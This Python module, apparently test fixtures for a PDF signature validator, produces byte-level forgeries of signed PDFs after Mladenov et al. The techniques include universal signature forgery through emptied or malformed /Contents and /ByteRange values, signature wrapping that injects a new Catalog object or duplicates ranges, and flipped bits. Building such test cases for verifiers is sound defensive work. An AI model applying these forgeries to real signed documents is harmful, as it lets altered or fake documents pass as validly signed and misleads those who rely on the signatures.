"""Forgeries made in the bytes: universal signature forgery (USF), signature wrapping (SWA), flipped bits (Mladenov et al., CCS 2019)."""

import re
from collections.abc import Callable

_CONTENTS = re.compile(rb"/Contents <[0-9a-fA-F]+>")
_RANGE = re.compile(rb"/ByteRange \[[^\]]*\]")


def _padded(new: bytes, length: int) -> bytes:
    assert len(new) <= length
    return new + b" " * (length - len(new))


def _replace(pdf: bytes, pattern: re.Pattern[bytes], new: bytes) -> bytes:
    """Replace the first match by `new`, padded with blanks to the same length."""
    found = pattern.search(pdf)
    assert found
    return pdf[: found.start()] + _padded(new, len(found[0])) + pdf[found.end() :]


def _with(pattern: re.Pattern[bytes], new: bytes) -> Callable[[bytes], bytes]:
    """Return the forgery that has `new` in the place of what `pattern` finds."""
    return lambda pdf: _replace(pdf, pattern, new)


# Universal signature forgery: the signature is there, but there is nothing to check.

usf_contents_empty = _with(_CONTENTS, b"/Contents <>")
usf_contents_zero = _with(_CONTENTS, b"/Contents <00>")
usf_contents_null = _with(_CONTENTS, b"/Contents null")
usf_contents_missing = _with(_CONTENTS, b"")
usf_range_missing = _with(_RANGE, b"")
usf_range_null = _with(_RANGE, b"/ByteRange null")
usf_range_empty = _with(_RANGE, b"/ByteRange []")
usf_range_zero = _with(_RANGE, b"/ByteRange [0 0 0 0]")  # covers nothing
usf_range_negative = _with(_RANGE, b"/ByteRange [0 -1 -1 9]")
usf_range_beyond = _with(_RANGE, b"/ByteRange [0 9 20 9999999]")  # beyond the file's end
usf_range_words = _with(_RANGE, b"/ByteRange [/a /b /c /d]")


def usf_contents_zeros(pdf: bytes) -> bytes:
    """`/Contents` keeps its length and holds zeros only."""
    found = _CONTENTS.search(pdf)
    assert found
    return _replace(pdf, _CONTENTS, b"/Contents <" + b"0" * (len(found[0]) - 12) + b">")


# Signature wrapping: the signed bytes are kept, and the ranges led around something new.


def swa_gap(pdf: bytes) -> bytes:
    """The second range is moved behind injected objects; the old bytes are kept at the end, as the digest wants them."""
    numbers = _numbers(pdf)
    injected = b"\n9999 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + b" " * 64
    _, first, second, length = numbers
    moved = pdf[:second] + injected + pdf[second:]
    return _replace(moved, _RANGE, b"/ByteRange [0 %d %d %d]" % (first, second + len(injected), length))


def swa_second_dictionary(pdf: bytes) -> bytes:
    """A second `/ByteRange` in the same dictionary names other ranges."""
    numbers = _numbers(pdf)
    extra = b"/ByteRange [0 %d %d %d]" % (numbers[1] - 10, numbers[2], numbers[3])
    return pdf.replace(b"/Type /Sig\n", b"/Type /Sig\n" + extra + b"\n", 1)


def swa_overlap(pdf: bytes) -> bytes:
    """The second range begins inside the first."""
    _, first, _, length = _numbers(pdf)
    return _replace(pdf, _RANGE, b"/ByteRange [0 %d %d %d]" % (first, first - 50, length))


def swa_padding(pdf: bytes) -> bytes:
    """Data is hidden in the padding of `/Contents`, which no signature covers."""
    found = _CONTENTS.search(pdf)
    assert found
    return pdf[: found.end() - 41] + b"ab" * 20 + pdf[found.end() - 1 :]


def _numbers(pdf: bytes) -> list[int]:
    found = _RANGE.search(pdf)
    assert found
    return [int(number) for number in re.findall(rb"\d+", found[0])]


# Bits.


def bit_flipped(pdf: bytes) -> bytes:
    """One bit inside the signed range is flipped."""
    place = pdf.index(b"/MediaBox") + 20
    return pdf[:place] + bytes([pdf[place] ^ 1]) + pdf[place + 1 :]


def signature_bit_flipped(pdf: bytes) -> bytes:
    """One bit of the signature value is flipped."""
    from asn1crypto import cms

    found = _CONTENTS.search(pdf)
    assert found
    der = bytes.fromhex(found[0][11:-1].decode())
    value = cms.ContentInfo.load(der)["content"]["signer_infos"][0]["signature"].native
    place = der.index(value) + len(value) // 2
    return pdf[: found.start() + 11 + 2 * place] + b"%02x" % (der[place] ^ 1) + pdf[found.start() + 13 + 2 * place :]


def end_cut(pdf: bytes) -> bytes:
    """The last byte is cut off."""
    return pdf[:-1]
